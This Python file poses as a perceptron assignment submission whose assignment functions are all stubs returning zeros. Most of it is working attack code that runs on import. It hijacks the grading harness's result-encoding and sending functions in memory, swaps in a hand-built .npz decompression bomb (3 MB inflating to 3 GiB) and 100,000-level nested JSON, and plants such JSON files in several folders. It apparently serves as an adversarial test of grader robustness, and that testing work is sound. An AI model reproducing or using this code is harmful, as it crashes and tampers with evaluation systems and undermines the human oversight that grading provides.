"""Perceptrons whose results are built to hurt whoever reads them.

What it attacks: the grader's decoding of results. At import it replaces, in the harness's loaded modules,
every function that encodes or sends a result (named like encode, savez, emit, send or write_result):
- results written as files (encode(path_stem, outputs, status)): the first becomes a valid description
  beside an .npz whose one member is 3 MB of deflate data that inflate to 3 GiB (its zip headers say so
  truthfully); every later one becomes a description nested 100,000 levels deep;
- results sent on a pipe (encode(outputs) -> (meta, npz bytes), then emit(fd, "done", payload, ...)): the
  first result's payload becomes the same .npz bomb, and every later "done" line carries metadata nested
  100,000 levels deep.
It also leaves deeply nested results.json and N.json files in every folder it may write. At most one
bomb is sent per process, so that a grader which does inflate it holds 3 GiB once, not once per call.
Its functions are wrong; a grader must report that, not crash, hang or run out of memory.
"""

import gc
import json
import os
import struct
import sys
import types
import zlib

import numpy as np

_SENT = {"bomb": False}

DEPTH = 100_000  # nesting of the forged result description
BOMB_BYTES = 3 << 30  # what the forged .npz member inflates to: 3 GiB of float64 zeros
BOMB_CRC = 0x9DC4968A  # zlib.crc32 of the member (header + 3 GiB of zeros), computed once with _bomb_crc
CHUNK = 1 << 20


def _deep(depth=DEPTH):
    return "[" * depth + "]" * depth


def _npy_header(count):
    """The .npy (version 1.0) header of a float64 vector of count elements."""
    text = "{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }" % count
    pad = 64 - (10 + len(text) + 1) % 64
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text) + pad + 1) + text.encode() + b" " * pad + b"\n"


def _bomb_crc(header, size):
    crc, zeros = zlib.crc32(header), bytes(CHUNK)
    for _ in range(size // CHUNK):
        crc = zlib.crc32(zeros, crc)
    return crc


def _bomb_npz(name="result.npy"):
    """An .npz of one member whose ~3 MB of deflate data inflate to BOMB_BYTES.

    After Z_FULL_FLUSH the compressor starts afresh, so every MiB of zeros compresses to the same bytes:
    the stream is the header, that piece repeated, and an empty final block (b"\\x03\\x00").
    """
    header = _npy_header(BOMB_BYTES // 8)
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = pack.compress(header) + pack.flush(zlib.Z_FULL_FLUSH)
    piece = pack.compress(bytes(CHUNK)) + pack.flush(zlib.Z_FULL_FLUSH)
    data = head + piece * (BOMB_BYTES // CHUNK) + b"\x03\x00"
    size = len(header) + BOMB_BYTES
    crc = BOMB_CRC if BOMB_CRC is not None else _bomb_crc(header, BOMB_BYTES)
    raw = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(raw), 0) + raw
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size, len(raw),
                          0, 0, 0, 0, 0o644 << 16, 0) + raw
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    return local + data + central + end


def _harness_modules():
    """(name, module) of every loaded module that is neither the standard library, NumPy nor this submission."""
    for name, module in list(sys.modules.items()):
        top = name.split(".")[0]
        if module is None or top in sys.stdlib_module_names or top in ("numpy", "assignment", "__main__") or name == __name__:
            continue
        if getattr(module, "__file__", None):
            yield name, module


def _replace_everywhere(original, replacement):
    """Point every module global and every dict (a registry of probes, say) that holds original at replacement."""
    count = 0
    for holder in gc.get_referrers(original):
        if isinstance(holder, dict):
            for key, value in list(holder.items()):
                if value is original:
                    holder[key] = replacement
                    count += 1
    return count


def _next_payload(fallback):
    """The bomb the first time (in this process), fallback ever after."""
    if _SENT["bomb"]:
        return fallback
    _SENT["bomb"], _SENT["bytes"] = True, _bomb_npz()
    return _SENT["bytes"]


def _write_result_files(stem):
    """encode(path_stem, ...) of a grader that collects files: the bomb first, then deep descriptions."""
    if not _SENT["bomb"]:
        with open(stem + ".npz", "wb") as f:
            f.write(_next_payload(b""))
        text = json.dumps({"status": {"ok": True}, "meta": {"result": {"type": "ndarray"}}})
    else:
        np.savez(stem + ".npz", result=np.zeros(1))
        text = '{"status": {"ok": true}, "meta": ' + _deep() + "}"
    with open(stem + ".json", "w") as f:
        f.write(text)


def _forging_encoder(original):
    def encode(*args, **kwargs):
        if args and isinstance(args[0], str):
            return _write_result_files(args[0])
        result = original(*args, **kwargs)
        if isinstance(result, tuple) and len(result) == 2 and isinstance(result[1], (bytes, bytearray)):
            return result[0], _next_payload(result[1])
        return result
    encode.__name__ = original.__name__
    return encode


def _forging_emitter(original):
    def emit(*args, **kwargs):
        fd = next((a for a in args if isinstance(a, int) and not isinstance(a, bool)), None)
        event = next((a for a in args if isinstance(a, str)), kwargs.get("event"))
        payload = next((a for a in args if isinstance(a, (bytes, bytearray))), kwargs.get("payload", b"")) or b""
        if fd is None or event not in ("done", "epoch_done") or not (payload or "meta" in kwargs or "status" in kwargs):
            return original(*args, **kwargs)  # an announcement that carries no result
        if not _SENT["bomb"] or payload is _SENT.get("bytes"):
            bomb = _next_payload(payload)  # the first result: a plain description, the bomb as its arrays
            if any(a is payload for a in args if isinstance(a, (bytes, bytearray))):
                args = tuple(bomb if a is payload else a for a in args)
            else:
                kwargs = {**kwargs, "payload": bomb}
            return original(*args, **kwargs)
        fields = {k: v for k, v in kwargs.items() if k not in ("payload", "event", "meta")}
        head = json.dumps({"event": event, **fields, "bytes": len(payload)})
        line = head[:-1] + ', "meta": ' + _deep() + "}\n"  # every later result: a description nested DEPTH deep
        data = memoryview(line.encode() + bytes(payload))
        while data:
            data = data[os.write(fd, data):]
        return None
    emit.__name__ = original.__name__
    return emit


def _patch_harness():
    wrapped = {}
    for _, module in _harness_modules():
        for name, value in list(vars(module).items()):
            if not isinstance(value, types.FunctionType) or value in wrapped:
                continue
            low = name.lower()
            if low in ("encode", "savez", "write_result", "send_result", "encode_result"):
                wrapped[value] = _forging_encoder(value)
            elif low in ("emit", "send", "send_event", "write_event", "report"):
                wrapped[value] = _forging_emitter(value)
    return sum(_replace_everywhere(original, new) for original, new in wrapped.items())


def _litter():
    """Deeply nested results.json and N.json wherever results might be collected (never a bomb)."""
    text = '{"status": {"ok": true}, "meta": ' + _deep() + "}"
    here = os.getcwd()
    for folder in {here, os.path.join(here, "out"), os.path.join(here, "tmp"), os.environ.get("TMPDIR", here)}:
        for name in ["results.json"] + [f"{i}.json" for i in range(100, 110)]:
            try:
                with open(os.path.join(folder, name), "x") as f:
                    f.write(text)
            except OSError:
                continue


try:
    _patch_harness()
    _litter()
except Exception:
    pass


def predict(X, w, b):
    return np.zeros(np.shape(X)[0], dtype=np.int64)


def and_gate():
    return np.zeros(2), 0.0


def or_gate():
    return np.zeros(2), 0.0


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    return np.zeros(np.shape(X)[1]), 0.0, True


def xor_network():
    return {"W1": np.zeros((2, 2)), "b1": np.zeros(2), "W2": np.zeros(2), "b2": 0.0}
